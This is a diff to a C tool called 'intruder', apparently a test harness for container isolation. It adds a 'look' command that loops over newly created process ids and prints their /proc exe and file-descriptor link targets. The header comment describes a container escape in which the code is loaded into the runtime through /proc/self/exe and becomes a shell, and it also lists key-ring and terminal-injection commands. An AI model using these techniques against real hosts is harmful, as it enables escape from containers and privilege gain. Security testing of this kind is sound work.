@@ -5,6 +5,7 @@
  *	intruder key-put COMMAND...	put a key in a new session keyring, run
  *	intruder key-find	find that key
  *	intruder type	type into the terminal that is standard input
+ *	intruder look	print what other processes have open, over and over
  *
  * Built with -shared it is loaded into the runtime itself, when a container
  * runs /proc/self/exe, keeps the runtime's file open and becomes a shell.
@@ -13,6 +14,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/keyctl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/ioctl.h>
@@ -80,6 +82,35 @@ type(void)
 	return 0;
 }
 
+static void
+link_print(const char *fmt, int pid, int fd)
+{
+	char path[64], target[4096];
+	ssize_t n;
+
+	snprintf(path, sizeof path, fmt, pid, fd);
+	n = readlink(path, target, sizeof target);
+	if (n > 0)
+		printf("%.*s\n", (int)n, target);
+}
+
+/* Pids go up: the next ones are the next to come. */
+static _Noreturn void
+look(void)
+{
+	int next = 2;
+
+	for (puts("looking");; fflush(stdout))
+		for (int pid = next; pid < next + 4; pid++) {
+			if (kill(pid, 0) < 0)
+				continue;
+			next = pid;
+			link_print("/proc/%d/exe", pid, 0);
+			for (int fd = 3; fd < 20; fd++)
+				link_print("/proc/%d/fd/%d", pid, fd);
+		}
+}
+
 int
 main(int argc, char **argv)
 {
@@ -89,5 +120,7 @@ main(int argc, char **argv)
 		return key_find();
 	if (argc > 1 && strcmp(argv[1], "type") == 0)
 		return type();
+	if (argc > 1 && strcmp(argv[1], "look") == 0)
+		look();
 	return 2;
 }
